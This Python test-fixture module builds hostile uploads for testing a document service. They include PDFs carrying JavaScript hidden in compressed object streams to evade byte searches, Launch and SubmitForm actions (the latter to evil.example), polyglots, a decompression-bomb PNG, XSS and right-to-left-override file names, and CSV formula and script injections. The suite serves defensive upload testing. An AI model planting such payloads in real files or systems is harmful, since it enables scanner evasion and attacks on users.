"""Hostile files, built in memory: PDFs with active content (also hidden in object streams), polyglots,
a PNG whose header promises 6300x6300 pixels, files whose name lies, and CSV files that break
readers. Each builder is cheap and deterministic."""

from __future__ import annotations

import functools
import io
import struct
import zipfile
import zlib
from dataclasses import dataclass

from PIL import Image

from .harness import Upload

# --- PDF --------------------------------------------------------------------------------------------

_PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Resources << >> >>"


def pdf(catalog_extra: bytes = b"", extra_objects: dict[int, bytes] | None = None) -> bytes:
    """A one-page PDF with a classic cross-reference table; ``catalog_extra`` goes into the
    catalogue (an /OpenAction, an /AcroForm), ``extra_objects`` are numbered from 4."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        2: _PAGES,
        3: _PAGE,
        **(extra_objects or {}),
    }
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
    size = max(objects) + 1
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        if number in offsets:
            out += b"%010d 00000 n \n" % offsets[number]
        else:
            out += b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, xref)
    return bytes(out)


def _stream(data: bytes, dictionary: bytes = b"", eol: bytes = b"\n") -> bytes:
    return b"<< %s /Length %d >>\nstream%s%s\nendstream" % (dictionary, len(data), eol, data)


def pdf_action_in_object_stream(eol: bytes) -> bytes:
    """The catalogue's /OpenAction is object 5, a JavaScript action compressed inside an object
    stream whose ``stream`` keyword ends in ``eol`` (a bare CR, or a space before the line break):
    pypdf resolves it; a byte search for ``stream\\r\\n`` does not find it."""
    action = b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"
    header = b"5 0 "
    packed = zlib.compress(header + action)
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
        2: _PAGES,
        3: _PAGE,
        4: _stream(packed, b"/Type /ObjStm /N 1 /First %d /Filter /FlateDecode" % len(header), eol),
    }
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
    xref_at = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    rows += [struct.pack(">BIH", 1, offsets[n], 0) for n in (1, 2, 3, 4)]
    rows.append(struct.pack(">BIH", 2, 4, 0))  # object 5: in object stream 4, index 0
    rows.append(struct.pack(">BIH", 1, xref_at, 0))  # object 6: this cross-reference stream
    table = b"".join(rows)
    out += b"6 0 obj\n%s\nendobj\n" % _stream(table, b"/Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R")
    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def pdf_with_page() -> bytes:
    return pdf()


def _zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("payload.html", "<script>alert(1)</script>")
    return buffer.getvalue()


@dataclass(frozen=True)
class HostileFile:
    label: str
    name: str
    content: bytes
    content_type: str = "application/pdf"
    must_refuse: bool = True

    def upload(self) -> Upload:
        return Upload(self.name, self.content, self.content_type)


def png_bytes(width: int = 40, height: int = 30) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (width, height), (200, 30, 30)).save(buffer, "PNG")
    return buffer.getvalue()


def png_upload(name: str = "deed.png") -> Upload:
    return Upload(name, png_bytes(), "image/png")


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


@functools.cache
def huge_png(width: int = 6300, height: int = 6300) -> bytes:
    """A valid RGB PNG of ``width`` x ``height`` black pixels: about 500 kB on disk, 119 MB once
    decoded. Built row by row, so making it costs no more memory than one row (and half a
    second, once per process)."""
    row = b"\x00" + b"\x00" * (width * 3)
    packer = zlib.compressobj(1)
    body = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", body)
        + _png_chunk(b"IEND", b"")
    )


def hostile_documents() -> list[HostileFile]:
    """Files that must never be stored as a citizen's document (and a few odd names that may be,
    once the name is made harmless)."""
    page = pdf_with_page()
    return [
        HostileFile("tiny-15-byte-pdf", "deed.pdf", b"%PDF-1.4\n%%EOF\n"),
        HostileFile("pdf-zip-polyglot", "deed.pdf", page + _zip()),
        HostileFile(
            "pdf-html-polyglot",
            "deed.pdf",
            page + b"<html><body><script>alert(1)</script></body></html>\n",
        ),
        HostileFile(
            "pdf-javascript-open-action",
            "deed.pdf",
            pdf(b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
        ),
        HostileFile(
            "pdf-js-in-object-stream-bare-cr", "deed.pdf", pdf_action_in_object_stream(b"\r")
        ),
        HostileFile(
            "pdf-js-in-object-stream-space-eol",
            "deed.pdf",
            pdf_action_in_object_stream(b" \n"),
        ),
        HostileFile(
            "pdf-xfa-script",
            "deed.pdf",
            pdf(
                b"/AcroForm << /Fields [] /XFA 4 0 R >>",
                {4: _stream(b"<xdp:xdp><script>app.alert(1)</script></xdp:xdp>")},
            ),
        ),
        HostileFile(
            "pdf-submit-form-action",
            "deed.pdf",
            pdf(b"/OpenAction << /S /SubmitForm /F << /FS /URL /F (http://evil.example/) >> >>"),
        ),
        HostileFile(
            "pdf-launch-action",
            "deed.pdf",
            pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
        ),
        HostileFile(
            "pdf-embedded-file",
            "deed.pdf",
            pdf(
                b"/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>",
                {4: b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>", 5: _stream(b"MZ")},
            ),
        ),
        HostileFile("pdf-without-eof", "deed.pdf", page.rsplit(b"%%EOF", 1)[0]),
        HostileFile("png-bytes-named-pdf", "deed.pdf", png_bytes(), "application/pdf"),
        HostileFile("pdf-bytes-named-png", "deed.png", page, "image/png"),
        HostileFile("zero-bytes", "deed.pdf", b""),
        HostileFile("html-named-pdf", "deed.pdf", b"<html><script>alert(1)</script></html>"),
        HostileFile("svg-named-png", "deed.png", b"<svg onload=alert(1)>", "image/png"),
        HostileFile("truncated-png", "deed.png", png_bytes()[:40], "image/png"),
        HostileFile("jpeg-header-only", "deed.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF", "image/jpeg"),
        HostileFile("exe-named-pdf", "deed.pdf", b"MZ\x90\x00" + b"\x00" * 60),
        # Odd names on a good file: stored under our name, shown harmlessly.
        HostileFile(
            "script-in-file-name",
            "<script>alert(1)</script>.png",
            png_bytes(),
            "image/png",
            must_refuse=False,
        ),
        HostileFile(
            "rlo-in-file-name", "deed\u202egnp.exe.png", png_bytes(), "image/png", must_refuse=False
        ),
        HostileFile("long-file-name", "ب" * 3000 + ".png", png_bytes(), "image/png", False),
    ]


# Where the tests post every hostile document (``test_uploads``); ``test_corpus`` counts from it.
UPLOAD_TARGETS = (
    "citizen documents step",
    "kiosk documents step",
    "respond: first file",
    "respond: second file",
    "verify by PDF",
    "registry CSV import",
)

HUGE_PNG_LABEL = "png-6300x6300"


def huge_png_file() -> HostileFile:
    return HostileFile(HUGE_PNG_LABEL, "scan.png", huge_png(), "image/png")


# --- CSV --------------------------------------------------------------------------------------------

CSV_HEADER = "kind,number,name,licence,district,address,phone,manager"


def csv_row(
    number: str = "11901",
    name: str = "دفتر پیشخوان نمونه",
    *,
    kind: str = "counter",
    district: str = "1",
    address: str = "ارومیه، خیابان امام",
) -> str:
    return f"{kind},{number},{name},L-{number},{district},{address},04433445566,مدیر دفتر"


@dataclass(frozen=True)
class HostileCsv:
    label: str
    content: bytes
    name: str = "offices.csv"
    must_refuse: bool = False  # many are fine to import once read right; none may give a 500

    def upload(self) -> Upload:
        return Upload(self.name, self.content, "text/csv")


def _utf8(*lines: str, newline: str = "\n") -> bytes:
    return newline.join(lines).encode() + newline.encode()


def hostile_csvs() -> list[HostileCsv]:
    good = csv_row()
    return [
        HostileCsv("cr-only-line-endings", _utf8(CSV_HEADER, good, newline="\r")),
        HostileCsv("stray-cr-in-field", _utf8(CSV_HEADER, csv_row(name="دفتر\rنمونه"))),
        HostileCsv("field-over-128kb", _utf8(CSV_HEADER, csv_row(name="ب" * 140_000))),
        HostileCsv("nul-in-field", _utf8(CSV_HEADER, csv_row(name="دفتر\x00نمونه"))),
        HostileCsv(
            "latin-1-uebung",
            (CSV_HEADER + "\n" + csv_row(name="Übung")).encode("latin-1", "replace"),
        ),
        HostileCsv("superscript-number", _utf8(CSV_HEADER, csv_row(number="¹²³"))),
        HostileCsv("circled-district", _utf8(CSV_HEADER, csv_row(district="①"))),
        HostileCsv("bengali-number", _utf8(CSV_HEADER, csv_row(number="১১৯০১"))),
        HostileCsv("five-thousand-digit-number", _utf8(CSV_HEADER, csv_row(number="9" * 5000))),
        HostileCsv("thirty-digit-district", _utf8(CSV_HEADER, csv_row(district="9" * 30))),
        HostileCsv("script-in-name", _utf8(CSV_HEADER, csv_row(name="<script>alert(1)</script>"))),
        HostileCsv(
            "img-onerror-in-address",
            _utf8(CSV_HEADER, csv_row(address='"><img src=x onerror=alert(1)>')),
        ),
        HostileCsv("formula-in-name", _utf8(CSV_HEADER, csv_row(name='=HYPERLINK("x")'))),
        HostileCsv("zero-width-only-name", _utf8(CSV_HEADER, csv_row(name="\u200b\u200f\u2066"))),
        HostileCsv("unterminated-quote", _utf8(CSV_HEADER, 'counter,11901,"دفتر نمونه')),
        HostileCsv("semicolons", _utf8(CSV_HEADER.replace(",", ";"), good.replace(",", ";"))),
        HostileCsv("header-only", _utf8(CSV_HEADER)),
        HostileCsv("empty-file", b""),
        HostileCsv("bom-only", b"\xef\xbb\xbf"),
        HostileCsv("utf-16", (CSV_HEADER + "\n" + good + "\n").encode("utf-16")),
        HostileCsv("binary-garbage", bytes(range(256)) * 4),
        HostileCsv("a-pdf", pdf_with_page()),
        HostileCsv("rtl-override-header", _utf8("\u202e" + CSV_HEADER, good)),
        HostileCsv("many-columns", _utf8(CSV_HEADER + ",x" * 5000, good + ",1" * 5000)),
        HostileCsv("crlf-and-bom", b"\xef\xbb\xbf" + _utf8(CSV_HEADER, good, newline="\r\n")),
    ]
